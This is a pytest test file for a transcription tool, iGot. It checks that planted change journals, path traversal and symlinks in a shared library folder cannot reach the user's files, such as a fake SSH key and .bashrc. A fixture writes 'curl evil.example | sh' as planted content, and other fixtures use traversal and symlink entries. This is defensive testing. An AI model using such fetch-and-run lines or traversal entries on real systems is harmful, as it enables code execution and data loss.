"""A library folder someone else could write to (a shared or synced folder) must never lead iGot to
a file outside it (issue 49): a change journal planted in .igot, symbolic links in .igot, are
refused or left alone, and the user's files elsewhere (here a home folder beside the library: a
private key, a document, a .bashrc) stay byte for byte as they were. A change left by a killed
process is still finished, and a job killed with the server leaves nothing behind once the next
server starts."""

from __future__ import annotations

import json
import logging
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from igot.errors import IgotError
from igot.outputs import highlights
from igot.outputs.store import Library
from igot.pipeline import RunOptions, work_dir_for
from igot.runtime import changes
from igot.workspace.interviews import WorkspaceError
from igot.workspace.queue import RECORDINGS, UPLOADS, Queue
from tests.test_library_store import CRASH, library_of, tagged

REPO = Path(__file__).resolve().parent.parent
DAYS_AGO = time.time() - 3 * 24 * 3600
# The small models that come with iGot (as tests/test_add_interviews.py runs them).
FAST = RunOptions(model="bundled:tiny.en", word_timing="engine", punctuate=False, summary=False, meaning=False, voices=False)


@pytest.fixture
def home(tmp_path) -> Path:
    """A user's home beside the library, with files nobody may touch."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n")
    (home / "Documents").mkdir()
    (home / "Documents" / "plan.txt").write_text("the only copy of the plan")
    # A file named as a change's old file would be, for a journal that names it through a link.
    (home / "Documents" / ".joana.md.0123abcd.old").write_text("also the user's")
    (home / ".bashrc").write_text("alias ls='ls --color'\n")
    return home


def files_under(folder: Path) -> dict[str, bytes]:
    """Every file under `folder` and its bytes (links shown as where they lead)."""
    found = {}
    for path in sorted(folder.rglob("*")):
        if path.is_symlink():
            found[str(path.relative_to(folder))] = b"-> " + os.readlink(path).encode()
        elif path.is_file():
            found[str(path.relative_to(folder))] = path.read_bytes()
        else:
            found[str(path.relative_to(folder))] = b"<folder>"
    return found


def igot(*args: str) -> subprocess.CompletedProcess:
    """The igot command, in a process of its own, as a user runs it."""
    return subprocess.run([sys.executable, "-m", "igot", *args], capture_output=True, text=True, cwd=REPO, timeout=120)


def linked(path: Path, target: Path) -> None:
    """`path` made a link to `target` (the folder iGot made there removed first)."""
    shutil.rmtree(path, ignore_errors=True)
    path.symlink_to(target)


@pytest.fixture
def library(tmp_path) -> Path:
    folder = library_of(tmp_path / "lib")
    tagged(folder)
    return folder


# --- a planted journal ------------------------------------------------------------------------------
def planted(folder: Path, home: Path, kind: str) -> list[dict]:
    """A journal's entries, as an attacker writes them, with the files they need in the library."""
    if kind == "an absolute temp: the key moved into the library":
        return [{"path": "stolen.txt", "temp": str(home / ".ssh" / "id_ed25519"), "backup": None, "remove": False}]
    if kind == "an absolute path: a document removed":
        return [{"path": str(home / "Documents" / "plan.txt"), "temp": None, "backup": None, "remove": True}]
    if kind == "a ../ path: .bashrc replaced":
        (folder / ".evil.txt.0123abcd.tmp").write_text("curl evil.example | sh\n")
        return [{"path": "../home/.bashrc", "temp": "../home/.evil.txt.0123abcd.tmp", "backup": None, "remove": False},
                {"path": "../home/.bashrc", "temp": "../lib/.evil.txt.0123abcd.tmp", "backup": None, "remove": False}]
    if kind == "a ../ old file: a document removed":
        return [{"path": "joana.md", "temp": None, "backup": "../home/Documents/plan.txt", "remove": True}]
    if kind == "a path through a link: a document removed":
        (folder / "docs").symlink_to(home / "Documents")
        return [{"path": "docs/plan.txt", "temp": None, "backup": None, "remove": True}]
    if kind == "an old file through a link as .igot/old":
        linked(folder / ".igot" / changes.OLD, home / "Documents")
        return [{"path": "joana.md", "temp": None, "backup": ".igot/old/.joana.md.0123abcd.old", "remove": True}]
    if kind == "a temp that is a link to the key":
        (folder / ".joana.md.0123abcd.tmp").symlink_to(home / ".ssh" / "id_ed25519")
        return [{"path": "joana.md", "temp": ".joana.md.0123abcd.tmp", "backup": None, "remove": False}]
    if kind == "a good entry, then a bad one":  # the whole journal is refused: not even the first is done
        (folder / ".joana.md.0123abcd.tmp").write_text("# replaced by a planted journal\n")
        return [{"path": "joana.md", "temp": ".joana.md.0123abcd.tmp", "backup": None, "remove": False},
                {"path": "../home/.bashrc", "temp": None, "backup": None, "remove": True}]
    raise AssertionError(kind)


ATTACKS = ["an absolute temp: the key moved into the library", "an absolute path: a document removed",
           "a ../ path: .bashrc replaced", "a ../ old file: a document removed",
           "a path through a link: a document removed", "an old file through a link as .igot/old",
           "a temp that is a link to the key", "a good entry, then a bad one"]


@pytest.mark.parametrize("kind", ATTACKS)
def test_a_planted_journal_reaches_nothing_outside_the_library(library, home, kind, caplog):
    outside = files_under(home)
    shown = {name: (library / name).read_bytes() for name in ("joana.md", "joana.json", "index.html")}
    entries = planted(library, home, kind)
    changes.journal_path(library).write_text(json.dumps({"files": entries}))

    # Listing the library (igot serve's start, every page) takes the lock, which replays a journal.
    with caplog.at_level(logging.WARNING, logger="igot.runtime.changes"):
        interviews, skipped = Library(library).listing()
    assert sorted(iv.path.stem for iv in interviews) == ["bruno", "carla", "joana"] and not skipped
    assert files_under(home) == outside, kind
    assert not changes.interrupted(library)  # refused, and not read again
    assert "did not finish the change" in caplog.text and str(changes.journal_path(library)) in caplog.text
    assert not (library / "stolen.txt").exists()
    assert {name: (library / name).read_bytes() for name in shown} == shown  # no link, no planted text in their place
    assert not (library / "joana.md").is_symlink()

    # The same journal met by `igot tags`, in a process of its own: it lists the tags, says why
    # the journal was not followed, and touches nothing.
    changes.journal_path(library).write_text(json.dumps({"files": entries}))
    done = igot("tags", "--out", str(library))
    assert done.returncode == 0 and "pricing" in done.stdout, done.stderr
    assert "did not finish the change" in done.stderr and "Traceback" not in done.stderr
    assert files_under(home) == outside, kind
    assert {name: (library / name).read_bytes() for name in shown} == shown


def test_a_library_whose_igot_folder_is_a_link_is_refused_with_what_to_do(library, home):
    """.igot led elsewhere (with a journal waiting there): iGot writes nothing through it, and says
    to remove the link."""
    state = home / "state"
    state.mkdir()
    linked(library / ".igot", state)
    (state / changes.JOURNAL).write_text(json.dumps({"files": [
        {"path": "../home/.bashrc", "temp": None, "backup": None, "remove": True}]}))
    outside = files_under(home)
    with pytest.raises(IgotError, match=r"\.igot in .* is a link to") as refused:
        Library(library).listing()
    assert "Remove the link" in refused.value.fix
    done = igot("tags", "--out", str(library))
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert f".igot in {library} is a link to {state}" in done.stderr and "Remove the link" in done.stderr
    assert files_under(home) == outside


# --- links in .igot -----------------------------------------------------------------------------------
def test_igot_serves_start_leaves_a_folder_that_igot_uploads_leads_to(library, home):
    downloads = home / "Downloads"
    for name in ("old-project", "photos"):
        (downloads / name).mkdir(parents=True)
        (downloads / name / "notes.txt").write_text(f"{name}, the user's")
        os.utime(downloads / name, (DAYS_AGO, DAYS_AGO))  # as old as an upload folder left days ago
    (library / UPLOADS).symlink_to(downloads)
    outside = files_under(home)
    queue = Queue(Library(library), FAST)  # what igot serve makes at its start
    try:
        assert files_under(home) == outside
        # An upload is refused, with the link named, rather than written through it.
        with pytest.raises(WorkspaceError, match=r"uploads in .* is a link to"):
            queue.add({"files": [{"name": "a.flac", "size": 3}]})
        assert files_under(home) == outside and queue.listing() == []
    finally:
        queue.close()


def test_saving_a_highlight_empties_no_folder_that_igot_old_leads_to(library, home, monkeypatch):
    old_files = home / "Documents"
    for path in old_files.iterdir():
        os.utime(path, (DAYS_AGO, DAYS_AGO))
    linked(library / ".igot" / changes.OLD, old_files)
    outside = files_under(home)
    monkeypatch.setattr(changes, "LEFT_OLD", 0.0)  # every file there counts as left by a killed change
    lib = Library(library)
    before = (library / "joana.json").read_bytes()
    with pytest.raises(IgotError, match=r"old in .*\.igot is a link to .*Remove the link"):
        lib.change("joana", lib.open("joana").version,
                   lambda t: highlights.with_highlight(t, highlights.new_highlight(t, 9.5, 10.95, ["onboarding"])))
    assert files_under(home) == outside
    assert (library / "joana.json").read_bytes() == before  # nothing half made
    (library / ".igot" / changes.OLD).unlink()  # the link removed, as the error says: saving works again
    lib.change("joana", lib.open("joana").version,
               lambda t: highlights.with_highlight(t, highlights.new_highlight(t, 9.5, 10.95, ["onboarding"])))
    assert "onboarding" in (library / "joana.md").read_text()
    assert files_under(home) == outside


# --- what iGot itself left is still finished ------------------------------------------------------------
def test_a_change_killed_half_way_is_still_finished_beside_the_checks(library, home):
    outside = files_under(home)
    done = subprocess.run([sys.executable, "-c", CRASH, str(library)], capture_output=True, text=True, cwd=REPO)
    assert done.returncode == -signal.SIGKILL, done.stderr
    assert changes.interrupted(library)  # the journal the real change wrote
    listed = igot("tags", "--out", str(library))
    assert listed.returncode == 0 and "did not finish" not in listed.stderr, listed.stderr
    assert "price " in listed.stdout and "pricing" not in listed.stdout, listed.stdout
    assert not changes.interrupted(library)
    for stem in ("joana", "bruno", "carla"):
        assert "pricing" not in (library / f"{stem}.html").read_text()
    assert not [p for p in library.iterdir() if p.name.endswith((".tmp", ".old"))]
    assert files_under(home) == outside


# --- a job killed with the server -----------------------------------------------------------------------
SERVER = """
import pathlib, sys, time
from igot.outputs.store import Library
from igot.pipeline import RunOptions
from igot.workspace.queue import Queue

folder, recording, marker = sys.argv[1:4]

def said(line):
    if "Transcription:" in line:  # the audio is converted, in the job's work folder
        pathlib.Path(marker).touch()
        time.sleep(600)  # the server is killed here, mid-run

options = RunOptions(model="bundled:tiny.en", word_timing="engine", punctuate=False, summary=False, meaning=False, voices=False)
queue = Queue(Library(folder), options, log=said)
data = pathlib.Path(recording).read_bytes()
[job] = queue.add({"files": [{"name": "sample.flac", "size": len(data)}], "language": "en", "speakers": 1})
queue.receive(job["id"], 0, data, True)
time.sleep(600)
"""


def finished(queue: Queue, timeout: float = 300.0) -> list[dict]:
    deadline = time.monotonic() + timeout
    while True:
        jobs = queue.listing()
        if not any(j["state"] in ("uploading", "waiting", "running") for j in jobs):
            return jobs
        assert time.monotonic() < deadline, jobs
        time.sleep(0.1)


def test_a_job_killed_with_the_server_is_taken_back_at_the_next_start(devdata, library, tmp_path):
    flac = devdata / "openai_whisper" / "jfk.flac"
    marker = tmp_path / "running"
    server = subprocess.Popen([sys.executable, "-c", SERVER, str(library), str(flac), str(marker)], cwd=REPO,
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        deadline = time.monotonic() + 120
        while not marker.exists():
            assert server.poll() is None and time.monotonic() < deadline, server.stdout.read() if server.poll() is not None else ""
            time.sleep(0.1)
        recording = library / RECORDINGS / "sample.flac"
        work = work_dir_for(str(recording), library)
        assert recording.is_file() and (work / "audio.wav").is_file()
        # Another igot serve starting beside a job that still runs leaves it be.
        Queue(Library(library), FAST).close()
        assert recording.is_file() and (work / "audio.wav").is_file()
    finally:
        server.kill()  # kill -9: no clean-up of its own runs
        server.wait()
    assert recording.is_file()  # what the killed job left

    heard: list[str] = []
    queue = Queue(Library(library), FAST, log=heard.append)  # igot serve starts again
    try:
        assert not recording.exists() and not work.exists()
        assert list((library / UPLOADS).iterdir()) == []
        # The same file added again is made from a recording of its own name, not "sample-2"
        # (cancelled once the run names it: no model is needed to see it).
        data = flac.read_bytes()
        [job] = queue.add({"files": [{"name": "sample.flac", "size": len(data)}], "language": "en", "speakers": 1})

        def said(line: str) -> None:
            heard.append(line)
            if "Source:" in line:
                queue.cancel(job["id"])

        queue.log = said
        queue.receive(job["id"], 0, data, True)
        [done] = finished(queue)
    finally:
        queue.close()
    assert done["state"] == "cancelled", (done, heard)
    assert any(line == f"sample.flac: Source: reading {recording}" for line in heard), heard
    assert not recording.exists() and list((library / UPLOADS).iterdir()) == []  # a cancelled job leaves nothing
